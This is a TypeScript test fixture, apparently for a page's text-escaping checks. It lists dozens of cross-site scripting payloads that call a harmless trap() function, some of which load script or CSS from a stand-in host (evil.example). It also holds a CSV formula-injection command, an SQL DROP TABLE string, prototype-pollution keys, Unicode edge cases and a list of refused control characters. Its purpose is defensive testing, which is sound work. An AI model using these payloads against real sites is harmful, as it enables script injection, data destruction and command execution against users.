/** What a hostile script would call; a page under test watches over it. */
export const TRAP = 'trap()';

/**
 * One or more of each known way to make a page take text for something else: all may be kept, and have to be shown as
 * they are. Those that fit into a name are short.
 */
export const hostileTexts: readonly string[] = [
  // Elements that run or load.
  `<script>${TRAP}</script>`,
  `<ScRiPt>${TRAP}</sCrIpT>`,
  `<script src=//evil.example/x.js></script>`,
  `<scr<script>ipt>${TRAP}</scr</script>ipt>`,
  `<script>${TRAP}//`,
  `</script><script>${TRAP}</script>`,
  `</title><script>${TRAP}</script>`,
  `</textarea><script>${TRAP}</script>`,
  `</style><script>${TRAP}</script>`,
  `--><script>${TRAP}</script><!--`,
  `]]><script>${TRAP}</script>`,
  `<iframe src="javascript:${TRAP}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${TRAP}&lt;/script&gt;">`,
  `<object data="javascript:${TRAP}"></object>`,
  `<embed src="javascript:${TRAP}">`,
  `<base href="//evil.example/">`,
  `<meta http-equiv="refresh" content="0;javascript:${TRAP}">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import'//evil.example/x.css';</style>`,
  `<form action="javascript:${TRAP}"><button>提交</button></form>`,
  // Attributes.
  `<img src=x onerror=${TRAP}>`,
  `<img src=x onerror="${TRAP}" alt='图'>`,
  `<img/src/onerror=${TRAP}>`,
  `<body onload=${TRAP}>`,
  `<video><source onerror=${TRAP}></video>`,
  `<audio src=x onerror=${TRAP}>`,
  `<input autofocus onfocus=${TRAP}>`,
  `<details open ontoggle=${TRAP}>`,
  `<marquee onstart=${TRAP}>`,
  `<div style="animation:x" onanimationstart=${TRAP}>`,
  `<p style="background:url(javascript:${TRAP})">`,
  `" onmouseover="${TRAP}" x="`,
  `' onfocus='${TRAP}' autofocus='`,
  `" autofocus onfocus=${TRAP}//`,
  '`onmouseover=' + TRAP,
  // SVG and MathML.
  `<svg onload=${TRAP}>`,
  `<svg><script>${TRAP}</script></svg>`,
  `<svg><animate onbegin=${TRAP} attributeName=x>`,
  `<svg><a xlink:href="javascript:${TRAP}"><text>点</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror=${TRAP}></foreignObject></svg>`,
  `<math href="javascript:${TRAP}">点</math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${TRAP}>`,
  `<noscript><p title="</noscript><img src=x onerror=${TRAP}>">`,
  // Addresses.
  `javascript:${TRAP}`,
  `JaVaScRiPt:${TRAP}//`,
  `[点此](javascript:${TRAP})`,
  `<a href="javascript:${TRAP}">点此</a>`,
  `<a href="data:text/html,<script>${TRAP}</script>">点此</a>`,
  `https://example.com/"onclick="${TRAP}`,
  // Templates and other languages.
  '${' + TRAP + '}',
  `{{constructor.constructor('${TRAP}')()}}`,
  `<%= ${TRAP} %>`,
  `#{${TRAP}}`,
  `=HYPERLINK("javascript:${TRAP}","点此")`,
  `=cmd|'/c calc'!A0`,
  `'; DROP TABLE 年报; --`,
  '__proto__',
  'constructor',
  // Entities, and signs that look or become like others.
  `&lt;script&gt;${TRAP}&lt;/script&gt;`,
  `&#60;img src=x onerror=${TRAP}&#62;`,
  `\\u003cscript\\u003e${TRAP}\\u003c/script\\u003e`,
  `％3Cscript％3E${TRAP}`,
  `＜script＞${TRAP}＜/script＞`,
  `‹script›${TRAP}‹/script›`,
  // Several at once.
  `jaVasCript:/*-/*\`/*'/*"/**/(/* */oNcliCk=${TRAP} )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/oNloAd=${TRAP}//>`,
  `'">><marquee><img src=x onerror=${TRAP}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${TRAP}>`,
];

/** Characters that are no attack, and have to come back as they were typed. */
export const strangeTexts: readonly string[] = [
  '𠮷野家、㐀字、〇号文件',
  '葛\u{e0100}城市',
  'é 与 e\u0301 各自保留',
  '①㎡㈱ﬁ 不作归一',
  '零\u200b宽\u200c字\u200d符',
  '不换行\u00a0空格\u3000全角空格',
  '👨‍👩‍👧‍👦🇨🇳❤️',
  'مرحبا 与 שלום',
  'e' + '\u0301'.repeat(40),
];

/** What no text may hold, and how a refusal names it. */
export const refusedTexts: readonly (readonly [text: string, named: string])[] = [
  ['前\u202e后', 'U+202E @ 1'],
  ['前\u2066后\u2069', 'U+2066 @ 1'],
  ['\ufeff前', 'U+FEFF @ 0'],
  ['前\u0000后', 'U+0000 @ 1'],
  ['前\u001b[31m后', 'U+001B @ 1'],
  ['前\u0085后', 'U+0085 @ 1'],
  ['前\ud842后', 'U+D842 @ 1'],
  ['前\udfb7', 'U+DFB7 @ 1'],
  ['𠮷\uffff', 'U+FFFF @ 2'],
];
